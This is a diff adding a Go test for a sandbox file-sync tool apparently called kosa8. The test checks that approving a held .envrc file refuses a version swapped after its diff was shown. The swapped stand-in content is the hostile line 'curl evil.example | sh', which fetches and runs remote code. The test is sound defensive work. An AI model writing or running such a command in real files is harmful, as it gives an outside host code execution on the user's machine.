@@ -1,6 +1,8 @@
 package main
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -116,5 +118,57 @@ func TestDiffReadsTheHostVersionThroughNoLink(t *testing.T) {
 	}
 	if _, err := readHostFile(ws, "gone.txt"); !errors.Is(err, os.ErrNotExist) {
 		t.Fatalf("readHostFile of a missing file: %v, want not exist", err)
+	}
+}
+
+// 'kosa8 approve' shows a held file's diff, then approves it: the guest,
+// which sees its file read for the diff, must not get another version
+// written than the one shown. A version that the diff's read finds
+// already swapped is refused before anything is asked of the supervisor;
+// one shown as listed is approved as that version (its hash goes along,
+// for the supervisor to refuse a swap after the answer).
+func TestApproveSendsTheVersionShown(t *testing.T) {
+	const listed, swapped = "export EDITOR=vim\n", "curl evil.example | sh\n"
+	sum := sha256.Sum256([]byte(listed))
+	var serve atomic.Value // what cat prints
+	var approved atomic.Value
+	mux := http.NewServeMux()
+	ws := ""
+	mux.HandleFunc("GET /v1/sync", func(w http.ResponseWriter, r *http.Request) {
+		json.NewEncoder(w).Encode(api.SyncStatus{Path: ws, Status: wsync.Status{
+			Held: []wsync.Change{{Path: ".envrc", Kind: "added", Why: "a file host tools obey", Guest: &wsync.Entry{Path: ".envrc", Type: 'f', Mode: 0o644, Size: int64(len(listed)), Hash: hex.EncodeToString(sum[:])}}},
+		}})
+	})
+	mux.HandleFunc("POST /v1/sync/approve", func(w http.ResponseWriter, r *http.Request) {
+		var req api.SyncRequest
+		json.NewDecoder(r.Body).Decode(&req)
+		approved.Store(req)
+		json.NewEncoder(w).Encode(api.SyncResponse{Done: req.Paths})
+	})
+	mux.HandleFunc("POST /v1/exec", func(w http.ResponseWriter, r *http.Request) {
+		conn, brw, err := w.(http.Hijacker).Hijack()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: kosa8-exec\r\nConnection: Upgrade\r\n\r\n")
+		brw.Flush()
+		guest.WriteFrame(conn, guest.FrameStdout, []byte(serve.Load().(string)))
+		guest.WriteJSON(conn, guest.FrameExit, guest.ExitStatus{Code: 0})
+	})
+	ws = t.TempDir()
+	fakeRunning(t, "ap", ws, mux)
+
+	serve.Store(swapped)
+	code, out, errs := kosa8(t, "approve", "ap", ".envrc", "--yes")
+	if code == 0 || approved.Load() != nil {
+		t.Fatalf("approved a version other than the one listed: exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+
+	serve.Store(listed)
+	code, out, errs = kosa8(t, "approve", "ap", ".envrc", "--yes")
+	req, _ := approved.Load().(api.SyncRequest)
+	if code != 0 || req.Seen[".envrc"] == nil || req.Seen[".envrc"].Hash != hex.EncodeToString(sum[:]) {
+		t.Fatalf("approve of the version shown: exit %d, stdout %q, stderr %q, request %+v", code, out, errs, req)
 	}
 }
